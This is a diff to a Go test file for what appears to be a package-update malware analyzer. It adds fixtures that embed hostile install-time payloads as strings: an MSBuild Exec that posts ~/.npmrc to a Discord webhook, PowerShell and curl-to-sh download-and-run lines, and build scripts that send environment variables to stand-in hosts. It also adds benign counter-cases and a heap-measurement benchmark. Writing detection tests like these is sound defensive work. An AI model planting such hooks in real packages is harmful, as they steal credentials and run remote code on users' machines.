@@ -3,9 +3,12 @@ package analyze
 import (
 	"fmt"
 	"math/rand/v2"
+	"runtime"
+	"runtime/metrics"
 	"sort"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/tollgate-dev/tollgate/checks/content/archive"
 )
@@ -76,7 +79,68 @@ func TestScenarios(t *testing.T) {
 			new:  map[string]string{"dist/index.min.js": "function a(){return 1};function b(){return 2};fetch(\"http://45.61.1.1/c\",{body:require('fs').readFileSync(h+'/.npmrc')})"},
 			want: "dist/index.min.js capability-with-threat critical",
 		},
+		{
+			name: "a NuGet package whose imported .targets gains an Exec that posts to a webhook",
+			old:  map[string]string{"build/X.targets": "<Project>\n<PropertyGroup><A>1</A></PropertyGroup>\n</Project>\n"},
+			new:  map[string]string{"build/X.targets": "<Project>\n<PropertyGroup><A>1</A></PropertyGroup>\n<Target Name=\"T\" BeforeTargets=\"Build\"><Exec Command=\"curl -d @$(HOME)/.npmrc https://discord.com/api/webhooks/1/x\" /></Target>\n</Project>\n"},
+			want: "build/X.targets install-script-capability critical",
+		},
+		{
+			name: "a NuGet install.ps1 that downloads and runs",
+			old:  nil,
+			new:  map[string]string{"tools/install.ps1": "param($installPath)\niex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')\n"},
+			want: "tools/install.ps1 install-script-capability high",
+		},
+		{
+			name: "a gem's extconf.rb that pipes curl to a shell",
+			old:  map[string]string{"ext/x/extconf.rb": "require 'mkmf'\ncreate_makefile('x')\n"},
+			new:  map[string]string{"ext/x/extconf.rb": "require 'mkmf'\nsystem('curl -s https://x.example/i | sh')\ncreate_makefile('x')\n"},
+			want: "ext/x/extconf.rb install-script-capability high",
+		},
+		{
+			name: "an in-tree build backend that reads the environment and posts it",
+			old:  map[string]string{"pyproject.toml": "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n"},
+			new: map[string]string{"pyproject.toml": "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
+				"_build/backend.py": "import os, requests\nrequests.post('https://x.example/c', data=dict(os.environ))\n"},
+			want: "_build/backend.py install-script-capability high",
+		},
+		{
+			name: "a crate's build script that sends the environment away",
+			old:  map[string]string{"build.rs": "fn main() {}\n"},
+			new:  map[string]string{"build.rs": "fn main() { let e: Vec<_> = std::env::vars().collect(); let _ = reqwest::blocking::get(\"https://x.example/\"); }\n"},
+			want: "build.rs install-script-capability high",
+		},
 		// Quiet updates.
+		{
+			name: "a NuGet .props that only sets properties",
+			old:  map[string]string{"build/X.props": "<Project><PropertyGroup><A>1</A></PropertyGroup></Project>\n"},
+			new:  map[string]string{"build/X.props": "<Project><PropertyGroup><A>2</A><B>$(MSBuildThisFileDirectory)</B></PropertyGroup></Project>\n"},
+			want: "",
+		},
+		{
+			name: "a gem's extconf.rb that runs make (build scripts run programs by design)",
+			old:  map[string]string{"ext/x/extconf.rb": "require 'mkmf'\ncreate_makefile('x')\n"},
+			new:  map[string]string{"ext/x/extconf.rb": "require 'mkmf'\nsystem('make -C vendor')\ncreate_makefile('x')\n"},
+			want: "",
+		},
+		{
+			name: "a setup.py whose old subprocess call stays and whose version changes",
+			old:  map[string]string{"setup.py": "import subprocess\nv = subprocess.check_output(['git', 'describe'])\nsetup(name='x', version='1.0')\n"},
+			new:  map[string]string{"setup.py": "import subprocess\nv = subprocess.check_output(['git', 'describe'])\nsetup(name='x', version='1.1')\n"},
+			want: "",
+		},
+		{
+			name: "a wheel's .pth that only adds a path",
+			old:  nil,
+			new:  map[string]string{"x.pth": "./lib\n"},
+			want: "",
+		},
+		{
+			name: "a Go module that gains an HTTP client (capability, no threat)",
+			old:  map[string]string{"client.go": "package x\n"},
+			new:  map[string]string{"client.go": "package x\n\nimport \"net/http\"\n\nfunc Get(u string) { http.Get(u) }\n"},
+			want: "",
+		},
 		{
 			name: "a rebuild that only reorders a minified bundle",
 			old:  map[string]string{"dist/index.min.js": "function a(){fetch(\"https://api.example/x\")};function b(){return process.env.HOME}" + strings.Repeat(";var q=1", 200)},
@@ -168,7 +232,47 @@ func BenchmarkAnalyze5MB(b *testing.B) {
 	}
 	old, new := pkg(oldFiles), pkg(newFiles)
 	b.SetBytes(5 << 20)
+	b.ReportAllocs()
+	peak := heapPeak(b)
 	for b.Loop() {
 		Analyze(old, new)
 	}
+	peak.report()
+}
+
+// peakHeap samples the live heap while a benchmark runs and reports its
+// peak above the heap before the loop (the package pair itself), in MB:
+// runtime.MemStats has no peak, so the heap is read every 200 µs.
+type peakHeap struct {
+	b          *testing.B
+	base, peak uint64
+	stop, done chan struct{}
+}
+
+func heapPeak(b *testing.B) *peakHeap {
+	runtime.GC()
+	sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
+	metrics.Read(sample)
+	p := &peakHeap{b: b, base: sample[0].Value.Uint64(), stop: make(chan struct{}), done: make(chan struct{})}
+	go func() {
+		defer close(p.done)
+		t := time.NewTicker(200 * time.Microsecond)
+		defer t.Stop()
+		for {
+			select {
+			case <-p.stop:
+				return
+			case <-t.C:
+				metrics.Read(sample)
+				p.peak = max(p.peak, sample[0].Value.Uint64())
+			}
+		}
+	}()
+	return p
+}
+
+func (p *peakHeap) report() {
+	close(p.stop)
+	<-p.done
+	p.b.ReportMetric(float64(p.peak-min(p.base, p.peak))/(1<<20), "peak-heap-MB")
 }
